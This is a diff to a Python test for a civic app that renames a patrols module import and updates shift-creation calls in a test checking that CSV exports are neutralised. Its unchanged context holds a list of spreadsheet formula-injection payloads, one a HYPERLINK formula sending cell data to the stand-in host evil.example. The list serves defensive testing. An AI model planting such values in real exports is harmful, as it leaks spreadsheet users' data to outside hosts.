@@ -14,7 +14,7 @@ from civic.core.csvfile import csv_text, safe_cell
 from civic.deliberation import service as delib
 from civic.extensions import db
 from civic.ledger import service as ledger
-from civic.patrols import service as patrols
+from civic.patrols import shifts as patrol_shifts
 
 HOSTILE = ["=1+2", '=HYPERLINK("http://evil.example/?"&A1,"点我")', "@SUM(A1:A9)", "+1+2", "-2+3",
            "\t=1+2", "\r=1+2", "＝1+2", "＠SUM(A1)", "＋1", "－1"]
@@ -64,9 +64,9 @@ def test_roster_attendance_minutes_and_passbook_exports_are_neutralised(app, cli
         committee = db.session.get(User, world.committee.id)
         resident = db.session.get(User, world.resident.id)
         start = utcnow() + timedelta(hours=1)
-        shift = patrols.create_shift(coordinator, world.a.id, title=title, starts_at=start,
-                                     ends_at=start + timedelta(hours=2), capacity=5)
-        patrols.sign_up(resident, world.a.id, shift.id)
+        shift = patrol_shifts.create_shift(coordinator, world.a.id, title=title, starts_at=start,
+                                           ends_at=start + timedelta(hours=2), capacity=5)
+        patrol_shifts.sign_up(resident, world.a.id, shift.id)
         meeting = delib.create_meeting(committee, world.a.id, title=title, kind="council", place=note,
                                        starts_at=utcnow() - timedelta(minutes=5), ends_at=utcnow() + timedelta(hours=1),
                                        quorum_count=0, quorum_percent=0)
